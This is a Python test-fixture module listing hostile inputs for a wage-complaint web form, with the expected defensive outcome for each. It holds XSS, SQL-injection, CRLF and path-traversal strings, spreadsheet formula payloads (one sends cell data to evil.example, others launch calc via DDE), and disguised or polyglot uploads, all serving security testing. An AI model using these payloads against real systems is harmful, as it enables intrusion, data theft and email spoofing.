"""A catalogue of hostile and odd inputs for the form service (used by ``test_hostile_input*.py``).

Each entry says what is sent and what must happen:

- ``Stored``: a complaint whose fields (on ``/r/qh012``, or ``/complain`` when ``url`` says so)
  are overridden by ``fields`` must be accepted (303) and stored *faithfully*: each field equals
  ``expect`` (default: what was sent), and is shown escaped on the desk case page, verbatim in
  the officer's email, formula-neutralised in the CSV export.
- ``Refused``: the form must answer a clear 4xx page (``status``: an exact code or ``None`` for
  any 4xx) and store nothing.
- ``Path``: a request (method, path) that must answer a 4xx, never a 5xx, and echo nothing raw.
- ``Upload``: a file (name, content) that is ``accept``ed (stored under a random name, the
  original name kept only as harmless text) or refused with a 400.
- ``Raw``: bytes sent straight to a real gunicorn socket (malformed multipart, huge headers).
"""

from __future__ import annotations

from dataclasses import dataclass, field

SCRIPT = "<script>alert('xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "<svg/onload=alert(document.cookie)>"
ATTR = "' autofocus onfocus='alert(1)"
JS_URL = "javascript:alert(1)//"
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}#{7*7}"
SQL = "Robert'); DROP TABLE complaints;--"
SQL2 = "' OR '1'='1' -- \" ; SELECT * FROM users; /*"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
FORMULA2 = "+cmd|' /C calc'!A0"
FORMULA3 = "-2+3+cmd|' /C notepad'!'A1'"
FORMULA4 = "@SUM(1+9)*cmd|' /C calc'!A0"
EMOJI = "工资😡💰👷‍♂️🏗️"
ASTRAL = "𠀀𠀁𪚥𩸽 𝕨𝕒𝕘𝕖"  # CJK Extension B and mathematical letters: outside the BMP
TRADITIONAL = "張偉 拖欠薪資 臺灣 鄉鎮 營造廠"
RTL = "مرحبا שלום عامل"
BIDI = "张三\u202egnp.exe\u202c 工资"  # right-to-left override: the officer's screen would show it reversed
ZWJ = "李\u200b四\u200d\ufeff"  # zero-width space, joiner, BOM inside
COMBINING = "Z̸̡̛̗̝͉͖a̷̡͙̓l̶̢̛͓g̴̣̈́o̸̡͝"
HTML_ENTITY = "&lt;script&gt; &amp;amp; &#60;b&#62;"
CRLF = "张三\r\nBcc: victim@example.com\r\nSubject: spoofed"


@dataclass(frozen=True)
class Stored:
    id: str
    fields: dict
    expect: dict = field(default_factory=dict)  # field -> stored value, when it differs from what was sent
    url: str = "/r/qh012"
    defect: str = ""  # a known defect in another part: the case is expected to fail until it is fixed


@dataclass(frozen=True)
class Refused:
    id: str
    fields: dict
    status: int | None = 400
    url: str = "/r/qh012"
    says: str = ""  # a word the polite page must contain


@dataclass(frozen=True)
class Path:
    id: str
    method: str
    path: str
    status: int | None = None
    body: bytes | None = None
    defect: str = ""


@dataclass(frozen=True)
class Upload:
    id: str
    name: str
    content: bytes
    accept: bool
    stored_name: str = ""  # the original name as stored (when accepted; empty: only check it is harmless text)


@dataclass(frozen=True)
class Raw:
    id: str
    request: bytes
    status_range: tuple = (400, 499)
    defect: str = ""


from tests.images import JPEG, PNG  # noqa: E402  (real photos: the service re-encodes them)
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + b"0" * 300

TEXT_FIELDS = ("name", "owed_by_name", "trade", "description")

STORED: list[Stored] = [
    # script and attribute injections, in every text field of the project form
    *[Stored(f"script-in-{f}", {f: SCRIPT}) for f in TEXT_FIELDS],
    *[Stored(f"img-onerror-in-{f}", {f: IMG}) for f in TEXT_FIELDS],
    Stored("svg-onload-description", {"description": SVG}),
    Stored("attribute-breakout-name", {"name": ATTR}),
    Stored("javascript-url-owed-by", {"owed_by_name": JS_URL}),
    Stored("template-syntax-description", {"description": TEMPLATE}),
    Stored("html-entities-literal", {"description": HTML_ENTITY}),
    Stored("script-in-site-address", {"site_address": SCRIPT, "township": "hexi"}, url="/complain"),
    Stored("crlf-header-injection-site-address", {"site_address": CRLF, "township": "hexi"},
           expect={"site_address": "张三 Bcc: victim@example.com Subject: spoofed"}, url="/complain"),
    # SQL meta-characters
    Stored("sql-drop-table-name", {"name": SQL}),
    Stored("sql-or-1-1-description", {"description": SQL2}),
    Stored("sql-quotes-trade", {"trade": "'\"`;--"}),
    # spreadsheet formulas (CSV export must neutralise)
    Stored("formula-hyperlink-owed-by", {"owed_by_name": FORMULA}),
    Stored("formula-plus-description", {"description": FORMULA2}),
    Stored("formula-minus-name", {"name": FORMULA3[:50]}),
    Stored("formula-at-site-address", {"site_address": FORMULA4, "township": "dongcheng"}, url="/complain"),
    # scripts and encodings of the world
    Stored("emoji-everywhere", {"name": "阿强👷", "description": "😡💰🏗️" * 20}),
    Stored("emoji-zwj-sequence", {"owed_by_name": EMOJI}),
    Stored("astral-plane-cjk", {"name": "𠀀𪚥", "description": ASTRAL}),
    Stored("traditional-characters", {"name": "張偉", "owed_by_name": "營造廠", "description": TRADITIONAL}),
    Stored("right-to-left-text", {"description": RTL, "owed_by_name": RTL}),
    Stored("bidi-override-name", {"name": BIDI},
           expect={"name": "张三gnp.exe 工资"}),  # format characters (Cf) are dropped: nothing hides in a name
    Stored("zero-width-characters", {"owed_by_name": ZWJ}, expect={"owed_by_name": "李四"}),
    Stored("combining-zalgo", {"description": COMBINING}),
    # control characters and NUL bytes
    Stored("nul-byte-in-name", {"name": "张\x00三"}, expect={"name": "张三"}),
    Stored("control-chars-description", {"description": "第一行\x07\x08\x1b[31m红色\x7f\n第二行"},
           expect={"description": "第一行[31m红色\n第二行"}),
    Stored("tabs-and-crlf-description", {"description": "a\tb\r\nc\rd"}, expect={"description": "a\tb\nc\nd"}),
    # long but allowed, and numbers at the edge
    Stored("name-at-limit-50", {"name": "张" * 50}),
    Stored("description-at-limit-2000", {"description": "欠" * 2000}),
    Stored("amount-max-allowed", {"amount_yuan": "100000000"}, expect={"amount_yuan": 100000000}),
    Stored("fullwidth-digits", {"workers": "３", "amount_yuan": "１２，０００元"}, expect={"workers": 3, "amount_yuan": 12000}),
    Stored("anonymous-tip-no-name", {"anonymous": "y", "name": "", "mobile": "", "consent": None},
           expect={"anonymous": 1}),
]

REFUSED: list[Refused] = [
    Refused("name-too-long-51", {"name": "张" * 51}),
    Refused("name-very-long-5000", {"name": "x" * 5000}),
    Refused("description-2001", {"description": "欠" * 2001}),
    Refused("description-10-mb", {"description": "欠薪" * (5 * 1024 * 1024 // 2)}, status=413),
    Refused("workers-negative", {"workers": "-5"}),
    Refused("workers-zero", {"workers": "0"}),
    Refused("workers-huge", {"workers": "99999999999999999999999999"}),
    Refused("amount-negative", {"amount_yuan": "-12000"}),
    Refused("amount-over-max", {"amount_yuan": "100000001"}),
    Refused("amount-float", {"amount_yuan": "1.5e9"}),
    Refused("amount-nan", {"amount_yuan": "NaN"}),
    Refused("amount-infinity", {"amount_yuan": "Infinity"}),
    Refused("months-hex", {"months_owed": "0x10"}),
    Refused("months-sql", {"months_owed": "1; DROP TABLE complaints"}),
    Refused("mobile-script", {"mobile": SCRIPT}),
    Refused("mobile-too-long", {"mobile": "1" * 300}),
    Refused("mobile-sql", {"mobile": "13800000000' OR 1=1--"}),
    Refused("owed-by-kind-not-a-choice", {"owed_by_kind": "<script>"}),
    Refused("callback-not-a-choice", {"callback_time": "'; DROP TABLE x;--"}),
    Refused("township-unknown", {"township": "../../etc", "site_address": "某工地"}, url="/complain"),
    Refused("project-code-script", {"project_code": SCRIPT, "site_address": ""}, url="/complain"),
    Refused("project-code-very-long", {"project_code": "A" * 5000, "site_address": ""}, url="/complain"),
    Refused("missing-csrf-token", {"csrf_token": None}, says="过期"),
    Refused("wrong-csrf-token", {"csrf_token": "IjEyMzQ1Ng.aaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbb"}, says="过期"),
    Refused("submission-token-missing", {"submission_token": None}),
    Refused("submission-token-script", {"submission_token": SCRIPT}),
    Refused("no-consent", {"consent": None}),
]

PATHS: list[Path] = [
    Path("code-dotdot-encoded-slash", "GET", "/r/..%2f..%2fetc%2fpasswd", 404),
    Path("code-dotdot", "GET", "/r/../../etc/passwd"),
    Path("code-script", "GET", "/r/%3Cscript%3Ealert(1)%3C/script%3E", 404),
    Path("code-very-long", "GET", "/r/" + "Q" * 4000, 404),
    Path("code-nul", "GET", "/r/qh012%00", 404),
    Path("code-crlf", "GET", "/r/qh012%0d%0aSet-Cookie:%20pwned=1", 404),
    Path("code-sql", "GET", "/r/qh012'%20OR%20'1'='1", 404),
    Path("code-unicode", "GET", "/r/%E5%B7%A5%E5%9C%B0%F0%9F%98%80", 404),
    Path("put-form", "PUT", "/r/qh012", 405),
    Path("delete-complain", "DELETE", "/complain", 405),
    Path("patch-status", "PATCH", "/status", 405),
    Path("post-receipt", "POST", "/receipt/ABCD-EFGH", 405),
    Path("receipt-script", "GET", "/receipt/%3Cscript%3E", 404),
    Path("status-query-script", "GET", "/status?receipt=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
    Path("desk-case-huge-id", "GET", "/desk/cases/99999999999999999999999999"),
    Path("desk-case-negative-id", "GET", "/desk/cases/-1"),
    Path("desk-list-huge-page", "GET", "/desk/cases?page=99999999999999999999999"),
    Path("desk-list-script-filter", "GET", "/desk/cases?status=%3Cscript%3E&township=%27%22"),
    Path("desk-evidence-traversal", "GET", "/desk/cases/1/evidence/..%2f..%2fetc%2fpasswd"),
]

UPLOADS: list[Upload] = [
    Upload("path-traversal-name", "../../etc/passwd", JPEG, True, "passwd"),
    Upload("windows-traversal-name", "..\\..\\windows\\system32\\cmd.jpg", JPEG, True),  # only: harmless text
    Upload("script-in-file-name", "<script>alert(1)</script>.jpg", JPEG, True, "script>.jpg"),
    Upload("name-300-chars", "照" * 300 + ".jpg", JPEG, True, "照" * 100),
    Upload("windows-reserved-con", "CON.jpg", JPEG, True, "CON.jpg"),
    Upload("windows-reserved-aux-nul", "AUX", PNG, True, "AUX"),
    Upload("name-with-control-chars", "工资\x07\x1b条.pdf", PDF, True, "工资条.pdf"),
    Upload("html-dressed-as-jpeg", "photo.jpg", b"<!doctype html><script>alert(1)</script>", False),
    Upload("svg-dressed-as-png", "chart.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', False),
    Upload("exe-dressed-as-pdf", "工资条.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 300, False),
    Upload("polyglot-jpeg-html", "poly.jpg", JPEG + b"<html><script>alert(1)</script></html>", True, "poly.jpg"),
    Upload("polyglot-pdf-js", "doc.pdf", PDF + b"/JS (app.alert(1)) /OpenAction", True, "doc.pdf"),
    Upload("zip-dressed-as-jpeg", "a.jpg", b"PK\x03\x04" + b"\x00" * 300, False),
]


def _mp(boundary: bytes, body: bytes, ctype: bytes | None = None, extra: bytes = b"") -> bytes:
    ctype = ctype if ctype is not None else b"multipart/form-data; boundary=" + boundary
    return (b"POST /r/qh012 HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: " + ctype + b"\r\n" + extra +
            b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)


RAW: list[Raw] = [
    Raw("multipart-no-boundary", _mp(b"", b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n",
                                     ctype=b"multipart/form-data")),
    Raw("multipart-truncated", _mp(b"XyZ", b"--XyZ\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\n\xe5\xbc")),
    Raw("multipart-wrong-boundary", _mp(b"AAA", b"--BBB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--BBB--\r\n")),
    Raw("multipart-garbage", _mp(b"G", b"\x00\xff\xfe" * 1000)),
    Raw("multipart-nul-in-filename", _mp(b"N", b"--N\r\nContent-Disposition: form-data; name=\"evidence\"; "
                                         b"filename=\"a\x00../../x.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n" + JPEG +
                                         b"\r\n--N--\r\n")),
    Raw("multipart-header-without-name", _mp(b"H", b"--H\r\nContent-Disposition: form-data\r\n\r\nvalue\r\n--H--\r\n")),
    Raw("huge-header-value", b"GET /r/qh012 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: " + b"a" * 20000 +
        b"\r\nConnection: close\r\n\r\n"),
    Raw("huge-cookie", b"GET /complain HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: session=" + b"b" * 65000 +
        b"\r\nConnection: close\r\n\r\n"),
    Raw("too-many-headers", b"GET /complain HTTP/1.1\r\nHost: 127.0.0.1\r\n" +
        b"".join(b"X-H%d: 1\r\n" % i for i in range(300)) + b"Connection: close\r\n\r\n"),
    Raw("huge-request-line", b"GET /r/" + b"A" * 9000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
    Raw("negative-content-length", b"POST /complain HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n\r\n"),
    Raw("content-length-over-limit", b"POST /complain HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 999999999999\r\n"
        b"Content-Type: multipart/form-data; boundary=x\r\nConnection: close\r\n\r\n--x"),
]

ALL = [*STORED, *REFUSED, *PATHS, *UPLOADS, *RAW]
